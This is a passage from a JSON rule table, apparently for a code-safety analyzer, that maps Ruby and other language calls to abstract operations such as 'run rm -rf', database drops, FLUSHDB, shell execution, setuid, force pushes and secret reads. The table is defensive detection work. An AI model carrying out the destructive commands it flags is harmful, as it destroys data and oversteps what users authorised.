-self","drop":"if-made:mongo run sql drop-database db","keys":"calls-back if-stored entries keys","del":"if-gets:keys run sql flush FLUSHDB","unlink":"if-gets:ke\
-ys run sql flush FLUSHDB","call":"if-says:^migrate.(fresh|reset|refresh)$|^db.wipe$ run php artisan migrate:fresh","flush":"if-made:memcached run sql flush FLUS\
-HALL","update":"if-made:rows run sql update-all rows","openfile":"if-text open $self $0","fwrite":"send $self $0","getpathname":"value $self","getrealpath":"val\
-ue $self","deletedirectory":"run sql drop-bucket $0","cleandirectory":"run sql drop-bucket $0"}},"ruby":{"lexer":{"comment":["#"],"sigils":"$@","interpolation":\
-"hash","triple":false,"single_escapes":false,"quoting":"percent","heredoc":"ruby","patterns":true,"lines":"statements"},"program":"ruby","blocks":"end","member_\
-operators":[".","::","&."],"concatenation_operators":["<<"],"bare_calls":true,"function_keywords":["def"],"inputs":{"ARGV":"args","$*":"args","ENV":"environment\
-","$_":"text","STDIN":"lines","$stdin":"lines","ARGF":"lines","params":"peer"},"sdks":["Aws.","Google.Cloud.","Azure.","Stripe.","Octokit.","Gitlab.","Elasticse\
-arch.","DropletKit.","Fog.","Algolia.","Twilio."],"texts":{"__FILE__":"./program.rb","__dir__":"."},"aliases":{"rm_f":"FileUtils.rm_f","rm_r":"FileUtils.rm_r","\
-rm_rf":"FileUtils.rm_rf","rmtree":"FileUtils.rmtree","remove_dir":"FileUtils.remove_dir","remove_entry":"FileUtils.remove_entry","cp_r":"FileUtils.cp_r","remove\
-_entry_secure":"FileUtils.remove_entry_secure","chmod_R":"FileUtils.chmod_R","chown_R":"FileUtils.chown_R"},"rewrites":[["^(?:Kernel|Object|self)\\\\.",""]],"func\
-tions":{"puts":"print line","p":"print line","pp":"print line","print":"print text","gets":"input","readlines":"input","Rails.application":"name rails_applicati\
-on","ActiveRecord.Tasks.DatabaseTasks.drop_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.drop_all":"run sql drop-database db","ActiveRec\
-ord.Tasks.DatabaseTasks.purge_current":"run sql drop-database db","ActiveRecord.Tasks.DatabaseTasks.truncate_all":"run sql drop-database db","rails_application.\
-credentials":"secret","send":"invoke $0 $1..","public_send":"invoke $0 $1..","__send__":"invoke $0 $1..","Dir.[]":"globs $all","Rake.FileList.[]":"globs $all","\
-FileList.[]":"globs $all","Rake.FileList.new":"globs $all","FileList.new":"globs $all","Sequel.connect":"made sequel","Sequel.postgres":"made sequel","Sequel.my\
-sql2":"made sequel","Sequel.sqlite":"made sequel","Sequel.tinytds":"made sequel","Sequel.oracle":"made sequel","Sequel.jdbc":"made sequel","IO.popen":"calls-bac\
-k command $all","Open3.popen2":"calls-back command $all","Open3.popen2e":"calls-back command $all","Open3.popen3":"calls-back command $all","system":"command $a\
-ll","exec":"command $all","spawn":"command $all","Open3.capture2":"command $all","Open3.capture2e":"command $all","Open3.capture3":"command $all","PTY.spawn":"c\
-ommand $all","Process.Sys.setuid":"run setuid $0","Process.Sys.seteuid":"run setuid $0","Process.UID.change_privilege":"run setuid $0","Process.UID.grant_privil\
-ege":"run setuid $0","eval":"eval $0","instance_eval":"eval $0","class_eval":"eval $0","module_eval":"eval $0","TOPLEVEL_BINDING.eval":"eval $0","binding.eval":\
-"eval $0","Sidekiq.Queue.new":"made sidekiq","Sidekiq.RetrySet.new":"made sidekiq","Sidekiq.ScheduledSet.new":"made sidekiq","Sidekiq.DeadSet.new":"made sidekiq\
-","Sidekiq.Queue.all":"entries sidekiq","Resque.remove_queue":"run celery purge","Docker.Volume.all":"entries docker-volume","Sequel.mock":"made mock","MockRedi\
-s.new":"made mock","Docker.Volume.get":"made docker-volume","Docker.Volume.prune":"run docker volume prune -af","ObjectSpace.each_object":"entries model","Mongo\
-.Client.new":"made mongo","Mongoid.default_client":"made mongo","Mongoid.Clients.default":"made mongo","Mongoid.client":"made mongo","Mongoid.Clients.with_name"\
-:"made mongo","Mongoid.purge!":"run sql drop-database mongoid","Mongoid.truncate!":"run sql drop-database mongoid","Mongoid.Config.purge!":"run sql drop-databas\
-e mongoid","Mongoid.Config.truncate!":"run sql drop-database mongoid","Net.SSH.start":"calls-back made ssh","open":"calls-back open $0 $1","File.open":"calls-ba\
-ck open $0 $1","File.new":"calls-back open $0 $1","URI.open":"request GET $0","Net.HTTP.get":"request GET $0","HTTParty.get":"request GET $0","Faraday.get":"req\
-uest GET $0","RestClient.get":"request GET $0","HTTP.get":"request GET $0","Excon.get":"request GET $0","Typhoeus.get":"request GET $0","Net.HTTP.post":"request\
- POST $0 $1 $:body $:json $:form","Net.HTTP.post_form":"request POST $0 $1 $:body $:json $:form","HTTParty.post":"request POST $0 $1 $:body $:json $:form","Fara\
-day.post":"request POST $0 $1 $:body $:json $:form","RestClient.post":"request POST $0 $1 $:body $:json $:form","HTTP.post":"request POST $0 $1 $:body $:json $:\
-form","Excon.post":"request POST $0 $1 $:body $:json $:form","Typhoeus.post":"request POST $0 $1 $:body $:json $:form","HTTParty.delete":"request DELETE $0","Fa\
-raday.delete":"request DELETE $0","RestClient.delete":"request DELETE $0","HTTP.delete":"request DELETE $0","Excon.delete":"request DELETE $0","Typhoeus.delete"\
-:"request DELETE $0","Net.HTTP.Delete.new":"open-request DELETE $0","RubyVM.InstructionSequence.compile":"value $0","URI":"value $0","URI.parse":"value $0","Fil\
-e.expand_path":"value $0","Pathname":"value $0","Pathname.new":"value $0","File.read":"read $0","IO.read":"read $0","File.readlines":"read $0","File.foreach":"r\
-ead $0","File.binread":"read $0","IO.readlines":"read $0","IO.binread":"read $0","YAML.load_file":"read $0","YAML.safe_load_file":"read $0","YAML.unsafe_load_fi\
-le":"read $0","Psych.load_file":"read $0","JSON.load_file":"read $0","CSV.read":"read $0","CSV.foreach":"read $0","CSV.table":"read $0","Dotenv.parse":"read $0"\
-,"IniFile.load":"read $0","TomlRB.load_file":"read $0","PStore.new":"read $0","File.write":"write $0 $1","IO.write":"write $0 $1","File.delete":"run rm $all","F\
-ile.unlink":"run rm $all","FileUtils.rm":"run rm $all","FileUtils.remove":"run rm $all","Dir.rmdir":"run rmdir $0","Dir.delete":"run rmdir $0","Dir.unlink":"run\
- rmdir $0","FileUtils.rm_f":"run rm -f $all","FileUtils.rm_r":"run rm -r $all","FileUtils.rm_rf":"run rm -rf $all","FileUtils.rmtree":"run rm -rf $all","FileUti\
-ls.remove_dir":"run rm -rf $all","FileUtils.remove_entry":"run rm -rf $all","FileUtils.remove_entry_secure":"run rm -rf $all","FileUtils.mv":"run mv $0 $1","Fil\
-e.rename":"run mv $0 $1","FileUtils.cp":"run cp $0 $1","FileUtils.cp_r":"run cp -r $0 $1","FileUtils.ln_s":"run ln -s $0 $1","File.symlink":"run ln -s $0 $1","F\
-ileUtils.chmod":"chmod $1 $0","FileUtils.chmod_R":"run chmod -R $0 $1","FileUtils.chown_R":"run chown -R $0 $2","File.chmod":"chmod $1.. $0","File.chown":"run c\
-hown $0 $2..","File.truncate":"run truncate -s 0 $0","File.join":"join $all","File.dirname":"dirname $0","Dir.home":"value ~","Dir.pwd":"value .","Dir.mktmpdir"\
-:"calls-back new-folder","Dir.tmpdir":"value /tmp","Dir.glob":"calls-back glob $0","Pathname.glob":"calls-back glob $0","Dir.children":"names $0","Dir.entries":\
-"names $0","Dir.each_child":"names $0","Find.find":"calls-back folder $0","Process.kill":"kill $1.. $0","Process.uid":"value","fork":"if-sign:repeats run fork",\
-"TCPSocket.new":"connect $all","TCPSocket.open":"connect $all"},"methods":{"collections":"if-made:mongo entries mongo","write":"send $self $0","puts":"send $sel\
-f $0","execute":"sql $0","exec_params":"sql $0","query":"sql $0","async_exec":"sql $0","run":"sql $0","exec_query":"sql $0","exec":"if-made:ssh shell $0 | sql $\
-0","method":"method $self $0","const_get":"attribute $self $0","send":"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0\
- $1..","then":"then","yield_self":"then","find_each":"if-name calls-back made rows","in_batches":"if-name calls-back made rows","update_all":"if-name run sql up\
-date-all $owner","destroy":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","destroy!":"if-sign:unconditional if-made:rows if-none run sql d\
-elete-all rows","purge":"if-sign:unconditional if-made:rows if-none run sql delete-all rows","remove":"if-made:docker-volume run docker volume rm $self","open":\
-"if-text calls-back open $self $0","descendants":"entries model","subclasses":"entries model","delete_all":"if-made:model run sql delete-all rows | if-name if-k\
-ept run sql delete-all $owner | run sql delete-some rows","destroy_all":"if-made:model run sql delete-all rows | if-name if-kept run sql delete-all $owner | run\
- sql delete-some rows","delete":"if-text if-none run rm $self | if-made:sequel if-none run sql delete-all rows | if-gets:keys run sql flush FLUSHDB | if-databas\
-e if-none run sql delete-all $owner","unlink":"if-text if-none run rm $self | if-gets:keys run sql flush FLUSHDB","del":"if-gets:keys run sql flush FLUSHDB","tr\
-uncate":"if-made:sequel run sql truncate rows","tap":"calls-back value $self","freeze":"value $self","dup":"value $self","clone":"value $self","compact":"value \
-$self","uniq":"value $self","sort":"value $self","to_a":"value $self","flatten":"value $self","to_set":"value $self","clear":"if-made:sidekiq run celery purge",\
-"database":"if-made:mongo value $self","use":"if-made:mongo value $self","drop":"if-made:mongo run sql drop-database db","exec!":"if-made:ssh shell $0","eval":"\
-if-content eval $self | if-text eval $self","class_eval":"if-arg:content eval $0 | if-arg:text eval $0","module_eval":"if-arg:content eval $0 | if-arg:text eval\
- $0","instance_eval":"if-arg:content eval $0 | if-arg:text eval $0","update":"if-made:sequel run sql update-all rows","reset":"if-says:^hard$ if-args:2 run git \
-reset --hard","from":"if-made:sequel value $self","keys":"calls-back if-stored entries keys","scan_each":"calls-back if-stored entries keys","rmtree":"if-text r\
-un rm -rf $self","children":"folder $self","each_child":"folder $self","gets":"if-made:peer received | if-made:connection received | if-list any-of $self","read\
-line":"if-made:peer received | if-made:connection received","readpartial":"if-made:peer received | if-made:connection received","recv":"if-made:peer received | \
-if-made:connection received","recv_nonblock":"if-made:peer received | if-made:connection received","read_nonblock":"if-made:peer received | if-made:connection r\
-eceived","read":"if-made:peer received | if-made:connection received | lines $self","accept":"made peer","accept_nonblock":"made peer","shift":"if-list any-of $\
-self","first":"at 0 $self","last":"at -1 $self","fetch":"entry $self $0 | if-map environment $0 $1","each_pair":"if-map pairs $self","values":"if-map values $se\
-lf","each_value":"if-map values $self"}},"other":{"lexer":{"comment":["//"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"n\
-one","patterns":false,"lines":"statements"},"program":"node","blocks":"braces","member_operators":[".","?."],"concatenation_operators":[],"bare_calls":false,"fu\
-nction_keywords":["function"],"inputs":{"os.Args":"argv","sys.env":"environment","System.environment":"environment"},"sdks":[],"texts":{"os.pwd":".","os.home":"\
-~","FileManager.default.homeDirectoryForCurrentUser":"~","URL.homeDirectory":"~","FileManager.default.temporaryDirectory":"/tmp/temporary","URL.temporaryDirecto\
-ry":"/tmp/temporary","Directory.systemTemp":"/tmp/temporary","Directory.current":".","FileManager.default.currentDirectoryPath":"."},"aliases":{},"rewrites":[["\
-^(?:(?:System\\\\.IO|std|tokio|java|async_std|fs_err|experimental|filesystem|(?:n?io|file)(?=\\\\.\\\\w+\\\\.))\\\\.)+(?=\\\\w)",""]],"functions":{"print":"print","println"\
-:"print","console.log":"print","redis.call":"if-says:^(flush|FLUSH) run sql flush $0","redis.pcall":"if-says:^(flush|FLUSH) run sql flush $0","string.char":"cha\
-racters $all","table.concat":"join-texts $0 $1","strings.Join":"join-texts $0 $1","string.upper":"fold upper $0","string.lower":"fold lower $0","c":"value $all"\
-,"list":"value $all","List.of":"value $all","Set.of":"value $all","listOf":"value $all","setOf":"value $all","arrayOf":"value $all","mutableListOf":"value $all"\
-,"Arrays.asList":"value $all","Seq":"value $all","List":"value $all","Set":"value $all","Vector":"value $all","Array":"value $all","Stream.of":"value $all","Lis\
-t.toList":"value $all","IO.inspect":"value $all","ipairs":"value $all","pairs":"value $all","Command.new":"value $all","String.to_atom":"value $0","String.to_ex\
-isting_atom":"value $0","expand_file_name":"value $0","file_truename":"value $0","vim.fn.expand":"value $0","vim.fs.normalize":"value $0","Path.toFile":"value $\
-0","File.toPath":"value $0","Path.toString":"value $0","File.new":"value $0","Directory":"value $0","Directory.new":"value $0","DirectoryInfo":"value $0","FileI\
-nfo":"value $0","URL":"value $0","URI":"value $0","URI.create":"value $0","Uri.parse":"value $0","Uri.unsafeParse":"value $0","expand_path":"value $0","Path.exp\
-and":"value $0","abspath":"value $0","normpath":"value $0","opendir":"value $0","filepath.Abs":"value $0","filepath.Clean":"value $0","os.ExpandEnv":"value $0",\
-"std.string":"value $0","string":"value $0","String.valueOf":"value $0","Process":"value $0","Cmd":"value $0","must":"value $0","filepath.Join":"join $all","pat\
-h.Join":"join $all","path.join":"join $all","Paths.get":"join $all","Path.of":"join $all","Path.Combine":"join $all","Path.join":"join $all","File":"join $all",\
-"joinpath":"join $all","filename.join":"join $all","file.path":"join $all","path":"join $all","fs.path":"join $all","PathBuf.from":"join $all","Path.new":"join \
-$all","Path":"join $all","os.Path":"join $all","join_path":"join $all","path_join":"join $all","Path.Join":"join $all","home_dir":"value ~","dirs.home_dir":"val\
-ue ~","home.home_dir":"value ~","os.UserHomeDir":"value ~","UserHomeDir":"value ~","homedir":"value ~","path_home":"value ~","System.user_home":"value ~","user_\
-home":"value ~","NSHomeDirectory":"value ~","FileManager.default.homeDirectoryForCurrentUser":"value ~","getHomeDir":"value ~","os.Getwd":"value .","pwd":"value\
- .","getwd":"value .","File.cwd":"value .","os.pwd":"value .","getCurrentDir":"value .","env.current_dir":"value .","Dir.pwd":"value .","lfs.currentdir":"value \
-.","os.Getenv":"environment $0","System.getenv":"environment $0","System.getProperty":"environment $0","os.getenv":"environment $0","getenv":"environment $0","S\
-ys.getenv":"environment $0","env.var":"environment $0","System.get_env":"environment $0","make_temp_file":"value /tmp/\\ufffc","os.MkdirTemp":"value /tmp/\\ufffc"\
-,"ioutil.TempDir":"value /tmp/\\ufffc","os.CreateTemp":"value /tmp/\\ufffc","tempfile.tempdir":"value /tmp/\\ufffc","tempdir":"value /tmp/\\ufffc","tempfile":"value\
- /tmp/\\ufffc","mktempdir":"value /tmp/\\ufffc","mktemp":"value /tmp/\\ufffc","tempname":"value /tmp/\\ufffc","os.tmpname":"value /tmp/\\ufffc","os.TempDir":"value /\
-tmp/\\ufffc","env.temp_dir":"value /tmp/\\ufffc","TempDir.new":"value /tmp/\\ufffc","tempfile.Builder.new":"value /tmp/\\ufffc","Files.createTempDirectory":"value /\
-tmp/\\ufffc","Files.createTempFile":"value /tmp/\\ufffc","createTempDir":"value /tmp/\\ufffc","createTempDirectory":"value /tmp/\\ufffc","createTempFile":"value /tm\
-p/\\ufffc","File.createTempFile":"value /tmp/\\ufffc","File.createTempDir":"value /tmp/\\ufffc","os.temp.dir":"value /tmp/\\ufffc","os.temp":"value /tmp/\\ufffc","Di\
-rectory.systemTemp.createTemp":"value /tmp/\\ufffc","Directory.systemTemp.createTempSync":"value /tmp/\\ufffc","FileManager.default.temporaryDirectory":"value /tm\
-p/\\ufffc","NSTemporaryDirectory":"value /tmp/\\ufffc","Path.GetTempPath":"value /tmp/\\ufffc","Path.GetTempFileName":"value /tmp/\\ufffc","System.tmp_dir":"value /\
-tmp/\\ufffc","mkdtemp":"value /tmp/\\ufffc","tmpnam":"value /tmp/\\ufffc","Briefly.create":"value /tmp/\\ufffc","getTempDir":"value /tmp/\\ufffc","rm":"if-option:rec\
-ursive=true run rm -rf $0 | run rm $0","file.remove":"run rm $0","os.Remove":"run rm $0","fs.remove_file":"run rm $0","Files.delete":"run rm $0","Files.deleteIf\
-Exists":"run rm $0","unlink":"run rm $0","remove":"run rm $0","os.remove":"run rm $0","os.remove.file":"run rm $0","File.rm":"run rm $0","File.Delete":"run rm $\
-0","file.delete":"run rm $0","File.delete":"run rm $0","vim.uv.fs_unlink":"run rm $0","vim.loop.fs_unlink":"run rm $0","file_delete":"run rm $0","removeFile":"r\
-un rm $0","remove_file":"run rm $0","deleteFile":"run rm $0","delete-file":"run rm $0","delete_file":"run rm $0","vim.fn.delete":"run rm -rf $0","vim.fs.rm":"ru\
-n rm -rf $0","os.RemoveAll":"run rm -rf $0","fs.remove_dir_all":"run rm -rf $0","Files.remove_all":"run rm -rf $0","remove_all":"run rm -rf $0","FileUtils.delet\
-eDirectory":"run rm -rf $0","FileUtils.deleteQuietly":"run rm -rf $0","FileUtils.forceDelete":"run rm -rf $0","FileUtils.cleanDirectory":"run rm -rf $0","File.r\
-m_rf":"run rm -rf $0","file.del_dir_r":"run rm -rf $0","Directory.Delete":"run rm -rf $0","dir_delete":"run rm -rf $0","os.remove.all":"run rm -rf $0","removeDi\
-r":"run rm -rf $0","removeDirectoryRecursive":"run rm -rf $0","removePathForcibly":"run rm -rf $0","rm_rf":"run rm -rf $0","delete-directory":"run rm -rf $0","d\
-elete_directory":"run rm -rf $0","remove_dir_all":"run rm -rf $0","delete_directory_tree":"run rm -rf $0","delete_directory_files":"run rm -rf $0","fs.rm_rf":"r\
-un rm -rf $0","FileUtils.deleteTree":"run rm -rf $0","deltree":"run rm -rf $0","gen_tcp.recv":"received","require":"module $0","SqlCommand":"sql $0","NpgsqlComm\
-and":"sql $0","MySqlCommand":"sql $0","SqliteCommand":"sql $0","OracleCommand":"sql $0","OleDbCommand":"sql $0","OdbcCommand":"sql $0","setuid":"run setuid $0",\
-"seteuid":"run setuid $0","syscall.Setuid":"run setuid $0","unix.Setuid":"run setuid $0","setreuid":"run setuid $last","setresuid":"run setuid $last","lfs.rmdir\
-":"run rmdir $0","rmdir":"run rmdir $0","fs.remove_dir":"run rmdir $0","File.rmdir":"run rmdir $0","file.del_dir":"run rmdir $0","os.remove.dir":"run rmdir $0",\
-"system":"shell $0","popen":"shell $0","os.execute":"shell $0","io.popen":"shell $0","shell":"shell $0","os.cmd":"shell $0","System.shell":"shell $0","Runtime.e\
-xec":"shell $0","execShellCmd":"shell $0","execCmd":"shell $0","execCmdEx":"shell $0","staticExec":"shell $0","spawnCommand":"shell $0","shell_command":"shell $\
-0","shell_command_to_string":"shell $0","async_shell_command":"shell $0","uiop.run_program":"shell $0","run_program":"shell $0","run_shell_command":"shell $0","\
-run":"shell $0","callCommand":"shell $0","success":"shell $0","readchomp":"shell $0","call_process":"program $all","start_process":"program $all","exec.Command"\
-:"program $all","exec.CommandContext":"program $all","ProcessBuilder":"program $all","os.proc":"program $all","spawn":"spawn $0 $1","system2":"spawn $0 $1","Sys\
-tem.cmd":"spawn $0 $1","Process.run":"spawn $0 $1","Process.runSync":"spawn $0 $1","Process.start":"spawn $0 $1","Process.Start":"spawn $0 $1","execl":"execute \
-$0 $1..","execlp":"execute $0 $1..","execv":"execute $0 $1..","execvp":"execute $0 $1..","execve":"execute $0 $1..","kill":"kill $0 $1","syscall.Kill":"kill $0 \
-$1","writeFile":"write $0 $1","os.WriteFile":"write $0 $1","ioutil.WriteFile":"write $0 $1","fs.write":"write $0 $1","Files.writeString":"write $0 $1","Files.wr\
-ite":"write $0 $1","File.write":"write $0 $1","spit":"write $0 $1","File.WriteAllText":"write $0 $1","File.WriteAllLines":"write $0 $1","File.WriteAllBytes":"wr\
-ite $0 $1","write_file":"write $0 $1","os.write.over":"write $0 $1","File.AppendAllText":"write $0 $1 append","File.AppendAllLines":"write $0 $1 append","writeL\
-ines":"write $1 $0","fopen":"open $0 $1","io.open":"open $0 $1","File.open":"open $0 $1","open":"open $0 $1 flags","os.OpenFile":"open $0 $1 flags","cat":"if-op\
-tion:file write $:file $0","os.Create":"open $0 w","File.create":"open $0 w","FileWriter":"open $0 w","PrintWriter":"open $0 w","FileOutputStream":"open $0 w","\
-os.Truncate":"run truncate -s 0 $0","truncate":"run truncate -s 0 $0","os.ReadFile":"read $0","ioutil.ReadFile":"read $0","os.Open":"read $0","fs.read":"read $0\
-","fs.read_to_string":"read $0","Files.readString":"read $0","Files.readAllBytes":"read $0","Files.readAllLines":"read $0","File.read":"read $0","File.ReadAllTe\
-xt":"read $0","upload_file":"read $0","readLines":"read $0","read_file":"read $0","FileInputStream":"read $0","FileReader":"read $0","File.ReadAllLines":"read $\
-0","File.ReadAllBytes":"read $0","File.ReadLines":"read $0","File.OpenText":"read $0","File.OpenRead":"read $0","StreamReader":"read $0","godotenv.Read":"read $\
-0","toml.DecodeFile":"read $0","ini.Load":"read $0","readRDS":"read $0","read_yaml":"read $0","read_json":"read $0","fromJSON":"read $0","read.csv":"read $0","r\
-ead.table":"read $0","readr::read_file":"read $0","TOML.parsefile":"read $0","YAML.load_file":"read $0","JSON.parsefile":"read $0","readdlm":"read $0","String.c\
-ontentsOfFile":"read $0","Data.contentsOf":"read $0","slurp":"read $0","HttpRequest.BodyPublishers.ofFile":"read $0","BodyPublishers.ofFile":"read $0","File.rea\
-d_to_string":"read $0","os.ReadDir":"names $0","ioutil.ReadDir":"names $0","lfs.dir":"names $0","File.ls":"names $0","readdir":"names $0","listdir":"names $0","\
-Directory.GetFiles":"folder $0","Directory.GetDirectories":"folder $0","Directory.EnumerateFiles":"folder $0","Directory.EnumerateDirectories":"folder $0","dire\
-ctory_files":"folder $0","list.files":"folder $0","list.dirs":"folder $0","dir_ls":"folder $0","fs.read_dir":"folder $0","os.list":"folder $0","Files.list":"fol\
-der $0","directory_iterator":"folder $0","directory_files_recursively":"folder $0 below","WalkDir.new":"folder $0 below","os.walk":"folder $0 below","Files.walk\
-":"folder $0 below","recursive_directory_iterator":"folder $0 below","walkdir.WalkDir.new":"folder $0 below","filepath.Walk":"calls-back folder $0 below","filep\
-ath.WalkDir":"calls-back folder $0 below","nftw":"calls-back folder $0 below","ftw":"calls-back folder $0 below","walkdir":"walk $0","filelib.wildcard":"glob $0\
-","filepath.Glob":"glob $0","glob":"glob $0","Sys.glob":"glob $0","glob.glob":"glob $0","Path.wildcard":"glob $0","any_of":"any-of $0","filepath.Dir":"dirname $\
-0","dirname":"dirname $0","Path.dirname":"dirname $0","fmt.Sprintf":"format $0 $1..","format":"format $0 $1..","String.format":"format $0 $1..","string.format":\
-"format $0 $1..","sprintf":"format $0 $1..","strings.Fields":"split $0","words":"split $0","String.split":"split $0","OptionParser.split":"split $0","shellwords\
-.split":"split $0","shlex.split":"split $0","lapply":"map $1 $0","sapply":"map $1 $0","vapply":"map $1 $0","walk":"map $1 $0","Enum.each":"map $1 $0","Enum.map"\
-:"map $1 $0","Task.async_stream":"map $1 $0","lists.foreach_":"map $1 $0","for_each":"map $0 $1","mapc":"map $0 $1","mapcar":"map $0 $1","foreach":"map $0 $1","\
-map":"map $0 $1","lists.foreach":"map $0 $1","lists.map":"map $0 $1","pcall":"invoke $0","dbExecute":"sql $0 | sql $1","dbSendQuery":"sql $0 | sql $1","dbGetQue\
-ry":"sql $0 | sql $1","dbSendStatement":"sql $0 | sql $1","execute":"sql $0 | sql $1","DBInterface.execute":"sql $0 | sql $1","SQLite.execute":"sql $0 | sql $1"\
-,"SQL.query":"sql $0 | sql $1","query":"sql $0 | sql $1","LibPQ.execute":"sql $0 | sql $1","spark.sql":"sql $0 | sql $1","sqlContext.sql":"sql $0 | sql $1","sql\
-x.query":"sql $0 | sql $1","diesel.sql_query":"sql $0 | sql $1","mysql_query":"sql $0 | sql $1","PQexec":"sql $0 | sql $1","sqlite3_exec":"sql $0 | sql $1","sql\
-_query":"sql $0 | sql $1","drive_rm":"run cloud-sdk delete","googledrive.drive_rm":"run cloud-sdk delete","bq_table_delete":"run cloud-sdk delete","bq_dataset_d\
-elete":"run cloud-sdk delete","delete_bucket":"run cloud-sdk delete","aws.s3.delete_bucket":"run cloud-sdk delete","dbRemoveTable":"run sql drop-table rows","mn\
-esia.delete_table":"run sql drop-table rows","mnesia.clear_table":"run sql drop-table rows","mnesia.delete_schema":"run sql drop-schema db","code.load_binary":"\
-eval $2","socket.http.request":"request GET $0","ssl.https.request":"request GET $0","http.Get":"request GET $0","reqwest.get":"request GET $0","GET":"request G\
-ET $0","httpc.request":"request GET $0","httpc_get":"request GET $0","http.get":"request GET $0","POST":"request POST $0 $1 $:body","PUT":"request POST $0 $1 $:\
-body","http.request":"request POST $0 $1 $:body","httr.POST":"request POST $0 $1 $:body","HTTP.post":"request POST $0 $1 $:body","HTTPoison.post":"request POST \
-$0 $1 $:body","Req.post":"request POST $0 $1 $:body","httpc_post":"request POST $0 $1 $:body","http.Post":"request POST $0 $2","http.PostForm":"request POST $0 \
-$2","HttpRequest.newBuilder":"made request $0","Request.post":"made request $0","jenkinsItems":"made jenkins","ArmClient":"made service","CosmosClient":"made se\
-rvice","BlobServiceClient":"made service","TableServiceClient":"made service","QueueServiceClient":"made service","ShareServiceClient":"made service","SecretCli\
-ent":"made service","KeyClient":"made service","AmazonS3Client":"made service","AmazonDynamoDBClient":"made service","AmazonEC2Client":"made service","FileSyste\
-m.get":"made service","FileSystem.newInstance":"made service","clientv3.New":"made service","storage.NewClient":"made service","ldap.DialURL":"made service"},"m\
-ethods":{"apply":"value $self","also":"value $self","use":"value $self","let":"value $self","run":"value $self","onEnter":"value $self","sorted":"value $self","\
-sort":"value $self","toList":"value $self","toMutableList":"value $self","stream":"value $self","iter":"value $self","into_iter":"value $self","iter_mut":"value\
- $self","collect":"value $self","unwrap":"value $self","unwrap_or_default":"value $self","expect":"value $self","ok":"value $self","clone":"value $self","cloned\
-":"value $self","as_path":"value $self","to_path_buf":"value $self","to_str":"value $self","to_string":"value $self","toString":"value $self","path":"value $sel\
-f","toPath":"value $self","toFile":"value $self","toURL":"value $self","into_path":"value $self","filter_map":"value $self","filter_entry":"value $self","take":\
-"value $self","skip":"value $self","lines":"value $self","get":"value $self","await":"value $self","toAbsolutePath":"value $self","normalize":"value $self","ite\
-rator":"value $self","asSequence":"value $self","parallelStream":"value $self","toArray":"value $self","max_depth":"value $self","min_depth":"value $self","stan\
-dardizedFileURL":"value $self","toSet":"value $self","as_ref":"value $self","as_str":"value $self","to_owned":"value $self","into":"value $self","del":"if-gets:\
-keys run sql flush FLUSHDB","delete":"if-gets:keys run sql flush FLUSHDB | if-made:jenkins run cloud-sdk delete | if-text if-option:recursive=true run rm -rf $s\
-elf | if-text run rm -r $self","unlink":"if-gets:keys run sql flush FLUSHDB | if-text run rm -r $self","scan_iter":"if-stored entries keys","keys":"if-stored en\
-tries keys","scan":"if-stored entries keys","storage_down":"run sql drop-database db","drop_database":"run sql drop-database db","dropDatabase":"run sql drop-da\
-tabase db","execute":"if-text shell $self | if-list shell $self | sql $0 | sql $1","status":"if-list shell $self","output":"if-list shell $self","spawn":"if-lis\
-t shell $self","start":"if-list shell $self","Run":"if-list shell $self","Output":"if-list shell $self","CombinedOutput":"if-list shell $self","Start":"if-list \
-shell $self","exec":"if-list shell $self | sql $0 | sql $1","call":"if-list shell $self","arg":"concatenate $self $all","args":"concatenate $self $all","removeI\
-tem":"run rm -rf $0:at:atPath","trashItem":"run rm -rf $0:at:atPath","rm_rf":"run rm -rf $self","deleteRecursively":"run rm -rf $self","deleteDir":"run rm -rf $\
-self","delete_recursively":"run rm -rf $self","deleteOnExitRecursively":"run rm -rf $self","doDelete":"if-made:jenkins run cloud-sdk delete","getPlainText":"run\
- Get-Secret","receive":"if-sign:network received","recv":"if-sign:network received","ReadString":"if-sign:network received","ReadBytes":"if-sign:network receive\
-d","ReadLine":"if-sign:network received","readLine":"if-sign:network received","ReadLineAsync":"if-sign:network received","FormValue":"if-sign:network received"\
-,"PostFormValue":"if-sign:network received","read_line":"if-sign:network received","Push":"if-option:Force=true run git push --force","PushContext":"if-option:F\
-orce=true run git push --force","ContainerRemove":"run docker rm -f $1","VolumeRemove":"run docker volume rm $1","VolumesPrune":"run docker volume prune -af","S\
-ystemPrune":"run docker system prune -af","deleteSync":"if-text if-option:recursive=true run rm -rf $self | if-text run rm -r $self","rm":"if-text run rm -r $se\
-lf","Delete":"if-text run rm -r $self","deleteIfExists":"if-text run rm -r $self","resolve":"join $self $0","appendingPathComponent":"join $self $0","appending"\
-:"join $self $0","child":"join $self $0","div":"join $self $0","join":"join $self $0","listFiles":"folder $self","list":"folder $self","listSync":"folder $self"\
-,"children":"folder $self","read_dir":"folder $self","GetFiles":"folder $self","GetDirectories":"folder $self","EnumerateFiles":"folder $self","EnumerateDirecto\
-ries":"folder $self","walk":"folder $self below","walkTopDown":"folder $self below","walkBottomUp":"folder $self below","contentsOfDirectory":"folder $0:at:atPa\
-th","enumerator":"folder $0:at:atPath","writeText":"write $self $0","writeString":"write $self $0","writeAsString":"write $self $0","writeAsStringSync":"write $\
-self $0","writeBytes":"write $self $0","setText":"write $self $0","appendText":"write $self $0 append","printWriter":"open $self w","bufferedWriter":"open $self\
- w","writer":"open $self w","outputStream":"open $self w","readText":"read $self","readAsString":"read $self","readAsStringSync":"read $self","readBytes":"read \
-$self","readLines":"read $self","inputStream":"read $self","getText":"read $self","write":"send $self $0","body":"send $self $0","puts":"send $self $0","POST":"\
-send $self $0","PUT":"send $self $0","read":"lines $self","post":"open-request POST $0","uri":"made request $0","url":"made request $0","Exec":"sql $0 | sql $1"\
-,"ExecContext":"sql $0 | sql $1","Query":"sql $0 | sql $1","QueryContext":"sql $0 | sql $1","QueryRow":"sql $0 | sql $1","MustExec":"sql $0 | sql $1","executeUp\
-date":"sql $0 | sql $1","executeQuery":"sql $0 | sql $1","executeLargeUpdate":"sql $0 | sql $1","addBatch":"sql $0 | sql $1","prepareStatement":"sql $0 | sql $1\
-","prepare":"sql $0 | sql $1","query":"sql $0 | sql $1","execSQL":"sql $0 | sql $1","ExecuteNonQuery":"sql $0 | sql $1","executeSql":"sql $0 | sql $1","rawQuery\
